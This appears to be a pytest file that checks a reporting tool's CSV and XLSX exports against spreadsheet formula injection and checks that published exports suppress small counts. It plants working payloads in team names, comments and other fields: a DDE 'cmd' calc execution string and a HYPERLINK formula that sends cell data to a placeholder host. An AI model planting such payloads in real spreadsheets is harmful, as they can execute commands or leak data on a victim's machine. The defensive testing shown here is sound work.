"""Every CSV and XLSX the tool writes is spreadsheet-safe, and explorer exports follow the audience
(issue 14, Deliver 4 and 5, Must-show 3).

The demo inputs are copied with formula payloads in team names, a cohort, comments, feedback
answers (rejected: they land in ``rejects.csv``) and non-participation reasons, then rendered as
internal and as published, and exported from the explorer. ``tests/spreadsheets.py`` (OWASP's rule,
written apart from the code) must find 0 formula cells in all of it, and in the plain demo runs
(whose own text includes "+14 points (likely +4 to +23)"). Numeric columns must stay numeric.
"""

from __future__ import annotations

import csv
import re

import openpyxl
import pandas as pd
import pytest

from conftest import ROOT, demo_params_copy, input_identifiers
from qa_lib.inputs.params import load_params
from qa_lib.present.explorer_view import Explorer
from qa_lib.running.demo import DEMO_DIR
from qa_lib.sections.explorer import BREAKDOWNS, MEASURES
from spreadsheets import formula_cells, spreadsheets

pytestmark = pytest.mark.slow

HYPERLINK = '=HYPERLINK("http://x"&A2)'
PAYLOADS = {"MASH": HYPERLINK, "Early Help Hub": "+cmd|' /C calc'!A0", "Assessment North": "-2+3"}
COHORT = {"Early help": "@SUM(1)"}
NOT_COUNTS = re.compile(r"(^|_| )(df|raters)$")


def _hostile_inputs(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for src in DEMO_DIR.glob("*.csv"):
        frame = pd.read_csv(src, dtype=str, keep_default_na=False)
        if "team" in frame.columns:
            frame["team"] = frame["team"].replace(PAYLOADS)
        if src.stem == "audits":
            frame["cohort"] = frame["cohort"].replace(COHORT)
        if src.stem == "comments":
            frame.loc[::7, "text"] = HYPERLINK + " " + frame.loc[::7, "text"]
            frame.loc[3::7, "text"] = "-2+3 worker"
        if src.stem == "feedback":
            frame.loc[5, "answer"], frame.loc[9, "answer"] = HYPERLINK, "@SUM(1)"
        if src.stem == "allocations":
            frame.loc[frame["reason"] != "", "reason"] = "+cmd|' /C calc'!A0"
        frame.to_csv(folder / src.name, index=False)
    return folder


def _explore_all(params_path, folder, *, measures=tuple(MEASURES), breakdowns=tuple(BREAKDOWNS)):
    app = Explorer.from_params(params_path, export_dir=folder)
    written = []
    for compare in (False, True):
        app.controls["compare"].value = compare
        for measure in measures:
            app.controls["measure"].value = measure
            for by in breakdowns:
                app.controls["by"].value = by
                written += app.export()
    return written


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory):
    from qa_lib.running.batch import run_batch

    root = tmp_path_factory.mktemp("hostile_demo")
    data = _hostile_inputs(root / "data")
    runs = {}
    for audience, source in (("internal", "demo.yaml"), ("published", "demo-published.yaml")):
        values = {"data": {t: str(data / f"{t}.csv") for t in
                           ("audits", "ratings", "allocations", "feedback", "actions", "comments", "indicators", "benchmarks")}}
        params = demo_params_copy(root / audience, source=ROOT / "params" / source, **values)
        runs[audience] = {"params": params, "out": root / audience / "outputs"}
    results = run_batch([r["params"] for r in runs.values()], progress=False)
    failed = [(r.report, r.error) for r in results if r.status != "ok"]
    assert not failed, failed
    for audience, run in runs.items():
        run["exports"] = _explore_all(run["params"], root / audience / "exports",
                                      breakdowns=("period", "team", "cohort", "service_area"))
    return runs


def _scan(folder):
    files = spreadsheets(folder)
    return files, [hit for f in files for hit in formula_cells(f)]


@pytest.mark.parametrize("audience", ["internal", "published"])
def test_no_formula_in_any_spreadsheet_of_a_hostile_run(hostile_runs, audience):
    run = hostile_runs[audience]
    files, hits = _scan(run["out"])
    assert len(files) > 30 and not hits, f"{len(hits)} formula cells, e.g. {hits[:5]}"
    exports, hits = _scan(run["exports"][0].parent)
    assert len(exports) == len(run["exports"]) and {p.suffix for p in exports} == {".csv", ".xlsx"}
    assert not hits, f"{len(hits)} formula cells in explorer exports, e.g. {hits[:5]}"
    # the payloads were there to find: written as text, behind OWASP's apostrophe
    every = "".join(p.read_text(encoding="utf-8-sig") for p in files if p.suffix == ".csv")
    assert "'+cmd|' /C calc'!A0" in every and "'@SUM(1)" in every
    if audience == "internal":
        assert '"\'=HYPERLINK(""http://x""&A2)"' in every  # rejects.csv and the team tables


def test_team_names_are_text_and_counts_numbers_in_exports(hostile_runs):
    exports = hostile_runs["internal"]["exports"]
    by_team = next(p for p in exports if p.name.startswith("explore-good-by-team") and p.suffix == ".csv")
    rows = list(csv.reader(open(by_team, newline="", encoding="utf-8-sig")))
    assert rows[0][:3] == ["team", "n", "good_or_better"]
    teams = {r[0] for r in rows[1:]}
    assert {"'" + v for v in PAYLOADS.values()} <= teams
    assert all(r[1].isdigit() and r[2].isdigit() for r in rows[1:])  # counts stay numbers
    assert all(0 <= float(r[3]) <= 1 for r in rows[1:])
    book = openpyxl.load_workbook(by_team.with_suffix(".xlsx"))
    ws = book["table"]
    values = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(2, ws.max_row + 1)}
    assert HYPERLINK in values and values[HYPERLINK].data_type == "n"
    assert ws.cell(row=[r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value == HYPERLINK][0],
                   column=1).data_type == "s"


@pytest.mark.parametrize("which", ["demo_run", "demo_published_run"])
def test_no_formula_in_the_demo_tables(request, which):
    """The tool's own text: "+14 points (likely +4 to +23)" was a formula in 10 cells of each run."""
    out = request.getfixturevalue(which)["out"]
    files, hits = _scan(out)
    assert files and not hits, hits[:5]
    table = pd.read_csv(out / "tables" / "quarterly-domain_changes.csv", dtype=str, encoding="utf-8-sig")
    assert table["difference"].str.startswith("'+").any()
    assert pd.to_numeric(table["p_value"]).notna().all()  # numbers are still numbers


def _whole_number_columns(frame):
    for col in frame.columns:
        vals = frame[col][(frame[col] != "c") & (frame[col] != "")]
        if NOT_COUNTS.search(str(col)) or vals.empty or not vals.str.fullmatch(r"-?\d+").all():
            continue
        if str(col).startswith(("p_value", "target")):
            continue
        yield col, vals.astype(int)


def test_published_explorer_exports_hold_no_small_count(tmp_path):
    """Deliver 4: under audience: published the exports get the reports' suppression (the demo
    exported 23 counts of 1-4 into 13 CSVs before)."""
    params = demo_params_copy(tmp_path, source=ROOT / "params" / "demo-published.yaml")
    written = _explore_all(params, tmp_path / "exports")
    checked = hidden = 0
    for path in written:
        sheets = ({"csv": pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")} if path.suffix == ".csv" else
                  pd.read_excel(path, sheet_name=None, dtype=str, keep_default_na=False, engine="openpyxl"))
        for name, frame in sheets.items():
            if name == "filters":
                assert "Audience: published" in " ".join(frame["value"])
                continue
            hidden += int((frame == "c").to_numpy().sum())
            for col, counts in _whole_number_columns(frame):
                checked += 1
                small = counts.between(1, 4)
                assert not small.any(), f"{path.name} {name} {col!r} shows {counts[small].tolist()}"
            for col in frame.columns:  # counts quoted in text ("share 3 audits", "3 of 14")
                for text in frame[col]:
                    for a in re.findall(r"(?<![\w.−-])(\d+)(?= audits| allocations| of )", text):
                        assert not 1 <= int(a) <= 4, f"{path.name} {name} {col!r}: {text!r}"
    assert checked > 100 and hidden > 20
    assert not [hit for p in written for hit in formula_cells(p)]


def test_internal_exports_keep_small_counts_and_no_identifiers(tmp_path):
    """Internal exports are the analyst's full-precision tables (no suppression); they never hold an
    identifier (ids are pseudonymised at load and no explorer table has an id column)."""
    params = demo_params_copy(tmp_path, source=ROOT / "params" / "demo.yaml")
    assert load_params(params).audience == "internal"
    written = _explore_all(params, tmp_path / "exports", measures=("good", "agreement"), breakdowns=("team", "month"))
    small = 0
    text = ""
    for path in written:
        if path.suffix == ".csv":
            frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
            small += sum(int(c.between(1, 4).sum()) for _, c in _whole_number_columns(frame))
            text += path.read_text(encoding="utf-8")
    assert small > 0  # the same demo: what the published exports hide is there internally
    ids = {i for i in input_identifiers() if len(i) >= 5}
    assert ids and not [i for i in ids if re.search(rf"(?<![\w-]){re.escape(i)}(?![\w-])", text)]
